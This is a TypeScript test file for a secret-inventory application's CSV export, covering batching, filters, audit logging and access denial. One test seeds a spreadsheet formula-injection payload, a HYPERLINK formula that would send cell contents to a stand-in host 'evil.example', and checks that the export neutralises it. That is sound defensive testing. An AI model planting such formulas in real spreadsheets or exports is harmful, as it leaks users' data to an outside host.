import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { NextRequest } from 'next/server';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { Caller } from '@/lib/auth/caller';
import { EXPORT_HEADER } from '@/lib/export/csv/inventory-columns';
import { csvStream } from '@/lib/export/csv/write';
import { EXPORT_BATCH, exportInventory, toCsvRecords } from '@/lib/export/sources/inventory';
import { createSecret } from '@/lib/data/secrets';
import { db } from '@/lib/db';
import { ForbiddenError } from '@/lib/errors';
import { parseSecretListQuery } from '@/lib/validation/secret-list';
import { callerAs, environmentId, secretInput, seedSystem, seedTeam } from '../support/seed';
import { useTestDatabase } from '../support/test-database';

// The route handler reads the session through getCaller(); the tests say who is calling.
const session = vi.hoisted(() => ({ caller: null as Caller | null }));
vi.mock('@/lib/auth/session', () => ({ getCaller: async () => session.caller }));
const { GET } = await import('@/app/api/export/inventory/route');

useTestDatabase();

type Record = { [header: string]: string };

async function exportCsv(caller: Caller, params: { [k: string]: string }): Promise<Record[]> {
  const rows = await exportInventory(caller, parseSecretListQuery(params));
  const text = await new Response(csvStream(EXPORT_HEADER, toCsvRecords(rows))).text();
  return parse(text, { bom: true, columns: true }) as Record[];
}

/** Inserts `count` secrets for a team straight into the table (fixtures, not code under test). */
async function seedMany(teamId: string, prefix: string, count: number) {
  const env = await environmentId('production');
  await db.$executeRaw`
    INSERT INTO secrets (id, name, environment_id, owner_team_id, classification, search_text, updated_at)
    SELECT gen_random_uuid(), ${prefix} || '-' || lpad(i::text, 5, '0'), ${env}::uuid, ${teamId}::uuid,
           (ARRAY['critical','important','sensitive'])[1 + i % 3]::"Classification", ${prefix} || '-' || i, now()
    FROM generate_series(1, ${count}) AS i`;
}

beforeEach(() => {
  session.caller = null;
});

describe('CSV export', () => {
  it('streams every matching row exactly once, in name order, across batch boundaries', async () => {
    const viewer = await callerAs('viewer');
    const team = await seedTeam();
    const other = await seedTeam();
    const count = EXPORT_BATCH * 2 + 345;
    await seedMany(team.id, 'exp', count);
    await seedMany(other.id, 'exp-other', 5);

    const records = await exportCsv(viewer, { owner: team.id });
    expect(records).toHaveLength(count);
    const names = records.map((r) => r['Secret Name']);
    expect(new Set(names).size).toBe(count);
    expect(names).toEqual([...names].sort());
    expect(records.every((r) => r.Owner === team.name && r.Environment === 'production')).toBe(true);
    expect(Object.keys(records[0])).toEqual(EXPORT_HEADER);
  });

  it('reads lazily, one batch at a time (a row added after the first batch still arrives)', async () => {
    const viewer = await callerAs('viewer');
    const team = await seedTeam();
    await seedMany(team.id, 'lazy', EXPORT_BATCH + 10);
    const rows = await exportInventory(viewer, parseSecretListQuery({ owner: team.id }));
    const seen: string[] = [];
    for await (const row of rows) {
      seen.push(row.name);
      // Sorts after every seeded name, so only a later batch can pick it up.
      if (seen.length === 1) await seedMany(team.id, 'lazy-z', 1);
    }
    expect(seen).toHaveLength(EXPORT_BATCH + 11);
    expect(seen.at(-1)).toBe('lazy-z-00001');
  });

  it('applies the inventory list filters', async () => {
    const engineer = await callerAs('engineer');
    const team = await seedTeam();
    const system = await seedSystem(team.id);
    const word = `zebra${randomUUID().slice(0, 6)}`;
    const a = await createSecret(
      engineer,
      await secretInput({ ownerTeamId: team.id, classification: 'critical', consumerSystemIds: [system.id], tags: 'alpha' }),
    );
    const b = await createSecret(
      engineer,
      await secretInput({ ownerTeamId: team.id, classification: 'sensitive', description: `About ${word}`, environmentId: await environmentId('staging') }),
    );
    const c = await createSecret(engineer, await secretInput({ ownerTeamId: team.id, status: 'decommissioned', lastRotatedAt: '' }));
    const names = async (params: { [k: string]: string }) => (await exportCsv(engineer, { owner: team.id, ...params })).map((r) => r['Secret Name']).sort();
    const name = async (id: { id: string }) => (await db.secret.findUniqueOrThrow({ where: { id: id.id } })).name;
    const [na, nb, nc] = [await name(a), await name(b), await name(c)];

    expect(await names({})).toEqual([na, nb].sort());
    expect(await names({ status: 'any' })).toEqual([na, nb, nc].sort());
    expect(await names({ env: 'staging' })).toEqual([nb]);
    expect(await names({ classification: 'critical' })).toEqual([na]);
    expect(await names({ system: system.id })).toEqual([na]);
    expect(await names({ tag: 'alpha' })).toEqual([na]);
    expect(await names({ q: word.toUpperCase() })).toEqual([nb]);
    expect(await names({ due: 'never', status: 'any' })).toEqual([nc]);
    // Paging parameters from a copied list URL are ignored by the route; a bad cursor here is harmless.
    expect(await names({ size: '25', after: 'garbage' })).toEqual([na, nb].sort());
  });

  it('writes the import layout and neutralises cells a spreadsheet would run as formulas', async () => {
    const engineer = await callerAs('engineer');
    const team = await seedTeam(`=Team ${randomUUID().slice(0, 6)}`);
    const system = await seedSystem(team.id, `@sys-${randomUUID().slice(0, 6)}`);
    await createSecret(
      engineer,
      await secretInput({
        ownerTeamId: team.id,
        description: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        contactPerson: '+1 555 0100',
        providerRef: '-2+3',
        consumerSystemIds: [system.id],
        tags: 'pci, database',
        lastRotatedAt: '2026-01-15T10:30:00Z',
      }),
    );
    const [r] = await exportCsv(engineer, { owner: team.id });
    expect(r.Description).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(r['Contact Person']).toBe("'+1 555 0100");
    expect(r['Provider Reference']).toBe("'-2+3");
    expect(r.Owner).toBe(`'${team.name}`);
    expect(r['Consuming Systems']).toBe(`'${system.name}`);
    expect(r.Tags).toBe('pci; database');
    expect(r['Last Rotated']).toBe('2026-01-15T10:30:00.000Z');
    expect(r['Rotation Interval (days)']).toBe('90');
    expect(r['Next Due']).toBe('2026-04-15T10:30:00.000Z');
    expect(r.Classification).toBe('critical');
  });

  it('records the filters when someone exports, and denies and audits a signed-out caller', async () => {
    const viewer = await callerAs('viewer');
    const team = await seedTeam();
    await exportInventory(viewer, parseSecretListQuery({ owner: team.id, due: 'overdue', after: 'x' }));
    const event = await db.auditEvent.findFirstOrThrow({ where: { actorId: viewer.user!.id, action: 'inventory.export' } });
    expect(event).toMatchObject({ outcome: 'success', targetType: 'secret', detail: { owner: team.id, due: 'overdue' } });

    const anonymous = await callerAs(null);
    const before = await db.auditEvent.count({ where: { action: 'inventory.export', outcome: 'denied' } });
    await expect(exportInventory(anonymous, parseSecretListQuery({}))).rejects.toBeInstanceOf(ForbiddenError);
    const denials = await db.auditEvent.findMany({ where: { action: 'inventory.export', outcome: 'denied' }, orderBy: { id: 'desc' } });
    expect(denials).toHaveLength(before + 1);
    expect(denials[0]).toMatchObject({ actorId: null, ip: anonymous.request.ip, detail: { permission: 'inventory.export', reason: 'signed_out' } });
  });
});

describe('GET /api/export/inventory', () => {
  it('answers a signed-out request with 401 JSON, audited, and no CSV', async () => {
    session.caller = await callerAs(null);
    const before = await db.auditEvent.count({ where: { action: 'inventory.export', outcome: 'denied' } });
    const response = await GET(new NextRequest('http://localhost/api/export/inventory'));
    expect(response.status).toBe(401);
    expect(response.headers.get('content-type')).toMatch(/application\/json/);
    expect(await response.json()).toEqual({ error: 'Sign in to continue.' });
    expect(await db.auditEvent.count({ where: { action: 'inventory.export', outcome: 'denied' } })).toBe(before + 1);
  });

  it('streams a dated CSV attachment for the filters in the URL', async () => {
    session.caller = await callerAs('auditor');
    const team = await seedTeam();
    await seedMany(team.id, 'route', 3);
    const response = await GET(new NextRequest(`http://localhost/api/export/inventory?owner=${team.id}&env=production&after=abc&size=25`));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="secret-inventory-production-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = Buffer.from(await response.arrayBuffer());
    // A UTF-8 byte-order mark first, so Excel reads non-ASCII names correctly.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.slice(1).startsWith('Secret Name,Environment,Owner,Consuming Systems,')).toBe(true);
    expect(parse(text, { bom: true, columns: true })).toHaveLength(3);
  });
});
